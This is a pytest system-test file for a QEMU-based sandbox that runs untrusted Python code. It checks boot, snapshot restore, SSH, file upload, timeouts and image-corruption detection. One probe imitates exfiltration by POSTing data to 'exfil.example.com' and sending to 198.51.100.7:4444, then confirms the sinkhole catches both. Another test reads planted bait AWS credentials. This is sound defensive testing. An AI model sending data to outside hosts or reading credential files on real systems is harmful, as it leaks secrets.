"""The real guest image under QEMU (TCG): boot, restore, SSH, Python, a sinkhole, no NIC."""

from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path

import pytest

from slave.image_builder.errors import ImageDamaged
from slave.image_builder.manifest import Image
from slave.vm.accel import Accel
from slave.vm.guest import Guest, GuestTimeout
from slave.vm.machine import VM

pytestmark = pytest.mark.system

PY_INFO = "import platform, os; print(platform.python_version(), os.getuid())"


async def test_restore_from_snapshot_runs_python(image: Image, tmp_path: Path) -> None:
    """A job VM restored from the snapshot answers SSH and runs the image's Python as root."""
    t0 = time.monotonic()
    async with await VM.start(image, tmp_path, Accel.TCG) as vm:
        assert vm.restored
        async with await Guest.connect(vm, image, timeout=30) as guest:
            result = await guest.run(["python3", "-c", PY_INFO], timeout=30)
            ready = time.monotonic() - t0
    assert result.exit_status == 0
    assert result.stdout.split() == [image.python_full_version, "0"]
    assert ready < 15, f"restore to SSH+Python took {ready:.1f}s"
    assert not vm.dir.exists()  # overlay, socket and log removed


async def test_cold_boot_runs_python(image: Image, tmp_path: Path) -> None:
    """Without the snapshot the kernel boots directly and SSH answers once it is up."""
    async with await VM.start(image, tmp_path, Accel.TCG, snapshot=False) as vm:
        assert not vm.restored
        async with await Guest.connect(vm, image, timeout=180) as guest:
            result = await guest.run(["python3", "-c", PY_INFO], timeout=60)
    assert result.stdout.split() == [image.python_full_version, "0"]


#: Run in the guest as root: the sinkhole seen by user tester, and what proves nothing leaves.
SINKHOLE_PROBE = r"""
import errno, json, os, socket, subprocess, sys, urllib.request

def as_tester():
    r, w = os.pipe()
    if os.fork() == 0:
        os.close(r)
        os.setgroups([]); os.setgid(1000); os.setuid(1000)
        out = {}
        out["addr"] = socket.getaddrinfo("exfil.example.com", 80, socket.AF_INET)[0][4][0]
        req = urllib.request.Request("http://exfil.example.com/up?x=1", data=b"k=v", method="POST")
        out["http"] = urllib.request.urlopen(req, timeout=10).read().decode()
        with socket.create_connection(("198.51.100.7", 4444), timeout=10) as s:
            s.sendall(b"hello")
            out["eof"] = s.recv(10) == b""
        for name, family, addr in (("v6", socket.AF_INET6, ("2001:db8::1", 80)),
                                   ("loopback", socket.AF_INET, ("127.0.0.1", 9)),
                                   ("port1", socket.AF_INET, ("127.0.0.1", 1))):
            s = socket.socket(family)
            try:
                s.connect(addr); out[name] = "connected"
            except OSError as e:
                out[name] = errno.errorcode[e.errno]
        try:
            open("/run/pyti-sinkhole/events.jsonl").read(); out["log"] = "readable"
        except OSError as e:
            out["log"] = errno.errorcode[e.errno]
        try:
            os.kill(int(sys.argv[1]), 9); out["kill"] = "killed"
        except OSError as e:
            out["kill"] = errno.errorcode[e.errno]
        os.write(w, json.dumps(out).encode()); os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 65536):
        data += chunk
    os.wait()
    return json.loads(data)

result = {"tester": as_tester()}
result["ifaces"] = sorted(os.listdir("/sys/class/net"))
result["sink0"] = subprocess.run(["ip", "-d", "link", "show", "sink0"], capture_output=True,
                                 text=True).stdout
result["virtio"] = sorted(open(p + "/device").read().strip()
                          for p in (f"/sys/bus/virtio/devices/{d}"
                                    for d in os.listdir("/sys/bus/virtio/devices")))
result["pci_classes"] = sorted(open(f"/sys/bus/pci/devices/{d}/class").read().strip()
                               for d in os.listdir("/sys/bus/pci/devices"))
result["log"] = [json.loads(l) for l in open("/run/pyti-sinkhole/events.jsonl")]
print(json.dumps(result))
"""


def _qemu_argv(vm_dir: Path) -> list[str]:
    """The command line of the QEMU process running the VM in ``vm_dir`` (read from /proc)."""
    for proc in Path("/proc").iterdir():
        try:
            argv = (proc / "cmdline").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        if argv and "qemu" in argv[0] and any(str(vm_dir) in a for a in argv):
            return argv
    raise AssertionError(f"no QEMU process for {vm_dir}")


async def test_guest_network_is_a_sinkhole_that_nothing_leaves(
    image: Image, tmp_path: Path
) -> None:
    """tester's lookups, HTTP and TCP are answered inside the VM, recorded out of its reach;
    no NIC exists (QEMU has no netdev, the guest no network device but lo and a dummy)."""
    async with (
        await VM.start(image, tmp_path, Accel.TCG) as vm,
        await Guest.connect(vm, image, timeout=30) as guest,
    ):
        argv = _qemu_argv(vm.dir)
        pid = await guest.run("systemctl show -p MainPID --value pyti-sinkhole", timeout=30)
        result = await guest.run(["python3", "-c", SINKHOLE_PROBE, pid.stdout.strip()], timeout=120)
    assert argv[argv.index("-nic") + 1] == "none"
    assert not any(a in ("-net", "-netdev") or "netdev" in a or "hostfwd" in a for a in argv)
    assert result.exit_status == 0, result.stderr
    got = json.loads(result.stdout)
    tester = got["tester"]
    assert tester["addr"].startswith("198.1")  # a sinkhole address (198.18.0.0/15)
    assert tester["http"].startswith("#!/bin/sh")
    assert tester["eof"] is True  # the catch-all listener closes: a payload never hangs on it
    assert (tester["v6"], tester["loopback"]) == ("ENETUNREACH", "ECONNREFUSED")
    assert tester["port1"] == "ECONNREFUSED"  # localhost:1 is closed, as test suites expect
    assert (tester["log"], tester["kill"]) == ("EACCES", "EPERM")
    assert got["ifaces"] == ["lo", "sink0"]
    assert " dummy " in got["sink0"]
    assert "0x0001" not in got["virtio"]  # virtio device id 1: network card
    assert not [c for c in got["pci_classes"] if c.startswith("0x02")]  # PCI class 02: network
    kinds = {
        (e["kind"], e.get("qname") or e.get("dst")) for e in got["log"] if e.get("uid") == 1000
    }
    assert ("dns", "exfil.example.com") in kinds
    assert ("tcp", "198.51.100.7:4444") in kinds
    http = [e for e in got["log"] if e["kind"] == "http"]
    assert [(e["method"], e["host"], e["path"], e["body_size"]) for e in http] == [
        ("POST", "exfil.example.com", "/up?x=1", 3)
    ]
    data = [e for e in got["log"] if e["kind"] == "data"]
    assert [(e["dst"], e["head"]) for e in data] == [("198.51.100.7:4444", "hello")]


async def test_guest_user_bait_tools_and_runner(image: Image, tmp_path: Path) -> None:
    """tester (uid 1000) has the manifest's bait; wheels, tools venv and runner are installed."""
    bait = image.bait
    script = (
        "id -u tester; cat /home/tester/.aws/credentials; grep PYTI_BAIT_TOKEN /etc/environment;"
        " ls /opt/pyti/wheels | grep -c '^pytest-'; /opt/pyti/tools/bin/ruff --version;"
        " python3 -I -S /opt/pyti/runner.pyz --help >/dev/null && echo runner;"
        " grep nproc /etc/security/limits.d/*;"
        # What a CI runner has and test suites ask for: legacy zone names, en_US.UTF-8.
        " python3 -c 'import zoneinfo; print(zoneinfo.ZoneInfo(\"US/Eastern\").key)';"
        " python3 -c 'import locale; print(locale.setlocale(locale.LC_ALL, \"en_US.UTF-8\"))'"
    )
    async with (
        await VM.start(image, tmp_path, Accel.TCG) as vm,
        await Guest.connect(vm, image, timeout=30) as guest,
    ):
        out = (await guest.run(script, timeout=60)).stdout
    assert out.startswith("1000\n")
    assert bait["aws_secret_access_key"] in out
    assert f"PYTI_BAIT_TOKEN={bait['token']}" in out
    assert "ruff " in out
    assert "tester hard nproc" in out
    assert "runner" in out.split()
    assert "US/Eastern" in out.split()
    assert "en_US.UTF-8" in out.split()


async def test_stream_put_and_timeout(image: Image, tmp_path: Path) -> None:
    """put() uploads over SFTP; stream() yields lines then the exit status; timeouts raise."""
    local = tmp_path / "payload.txt"
    local.write_text("hello from the host\n")
    work = tmp_path / "work"
    async with (
        await VM.start(image, work, Accel.TCG) as vm,
        await Guest.connect(vm, image, timeout=30) as guest,
    ):
        await guest.put([local], "/var/lib/pyti/job")
        stream = guest.stream(
            "cat /var/lib/pyti/job/payload.txt; printf 'x%.0s' $(seq 100000); echo; exit 7",
            timeout=60,
            max_line=1000,
        )
        lines = [line async for line in stream]
        with pytest.raises(GuestTimeout):
            await guest.run("sleep 30", timeout=1)
        still = await guest.run("echo alive", timeout=30)
    assert lines[0] == "hello from the host"
    assert lines[1] == "x" * 1000
    assert stream.cut_lines == 1
    assert stream.exit_status == 7
    assert still.stdout == "alive\n"


def _copy_with_initrd(image: Image, dest: Path, initrd: bytes) -> None:
    """A copy of the image (symlinks) whose initrd has the given contents."""
    copy = dest / image.name
    copy.mkdir(exist_ok=True)
    for f in image.dir.iterdir():
        (copy / f.name).unlink(missing_ok=True)
        if f.name == "initrd.img":
            (copy / f.name).write_bytes(initrd)
        else:
            os.symlink(f, copy / f.name)


def test_truncated_image_is_refused(image: Image, tmp_path: Path) -> None:
    """A copy of the image with one truncated file is refused at load."""
    data = image.initrd.read_bytes()
    _copy_with_initrd(image, tmp_path, data[: len(data) // 2])
    with pytest.raises(ImageDamaged, match=r"initrd\.img has"):
        Image.load(tmp_path, image.name)


def test_corrupted_image_fails_verify(image: Image, tmp_path: Path) -> None:
    """A flipped byte passes the cheap load check but verify() refuses the image."""
    data = bytearray(image.initrd.read_bytes())
    data[100] ^= 0xFF
    _copy_with_initrd(image, tmp_path, bytes(data))
    loaded = Image.load(tmp_path, image.name)
    with pytest.raises(ImageDamaged, match=r"initrd\.img does not match"):
        asyncio.run(loaded.verify())
